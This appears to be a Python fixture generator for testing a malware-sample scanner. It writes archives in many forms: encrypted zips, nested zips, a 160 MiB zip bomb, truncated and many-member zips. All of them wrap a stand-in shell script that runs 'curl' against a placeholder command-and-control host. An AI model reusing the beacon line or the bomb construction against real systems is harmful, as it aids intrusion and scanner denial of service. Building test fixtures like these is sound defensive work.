#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Files for the flow test of samples, all harmless. usage: sample.py FOLDER"""
import gzip
import io
import os
import struct
import sys
import tarfile
import zipfile
import zlib

folder = sys.argv[1]
TEXT = b"#!/bin/sh\ncurl http://c2.example:8080/gate\n" + bytes(range(256)) * 8


def write(name, data):
    with open(os.path.join(folder, name), "wb") as f:
        f.write(data)


def zipped(members, level=9):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


class Cipher:
    """The traditional encryption of zip (APPNOTE 6.1)."""

    def __init__(self, password):
        self.keys = [0x12345678, 0x23456789, 0x34567890]
        for c in password:
            self.update(c)

    def update(self, c):
        k = self.keys
        k[0] = ~zlib.crc32(bytes([c]), ~k[0] & 0xffffffff) & 0xffffffff
        k[1] = ((k[1] + (k[0] & 0xff)) * 134775813 + 1) & 0xffffffff
        k[2] = ~zlib.crc32(bytes([k[1] >> 24]), ~k[2] & 0xffffffff) & 0xffffffff

    def seal(self, data):
        out = bytearray()
        for c in data:
            t = (self.keys[2] | 2) & 0xffff
            out.append(c ^ (t * (t ^ 1) >> 8 & 0xff))
            self.update(c)
        return bytes(out)


def locked(name, data, password):
    """A zip of one stored member under a password."""
    crc = zlib.crc32(data)
    body = Cipher(password).seal(bytes(11) + bytes([crc >> 24]) + data)
    head = struct.pack("<HHHHHIIIHH", 20, 1, 0, 0, 0x5021, crc, len(body), len(data), len(name), 0)
    local = b"PK\3\4" + head + name + body
    central = b"PK\1\2" + struct.pack("<H", 20) + head + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


write("script.sh", TEXT)
write("script.gz", gzip.compress(TEXT, mtime=0))
write("usual.zip", locked(b"inner.sh", TEXT, b"infected"))
write("own.zip", locked(b"inner.sh", TEXT, b"Hinode 7"))
tar = io.BytesIO()
with tarfile.open(fileobj=tar, mode="w:gz") as t:
    for name in ("a/one", "a/two"):
        info = tarfile.TarInfo(name)
        info.size = len(TEXT)
        t.addfile(info, io.BytesIO(TEXT))
write("two.tgz", tar.getvalue())
nested = TEXT
for i in range(9):
    nested = zipped([(f"level{i}", nested)])
write("nested.zip", nested)
write("bomb.zip", zipped([("zeros", bytes(160 << 20)), ("behind", TEXT)], 1))
good = zipped([("a", TEXT), ("b", TEXT[::-1])])
write("cut.zip", good[: len(good) // 2])
write("many.zip", zipped([(f"m{i}", bytes([i & 255, i >> 8]) * 40) for i in range(2500)]))
write("empty", b"")
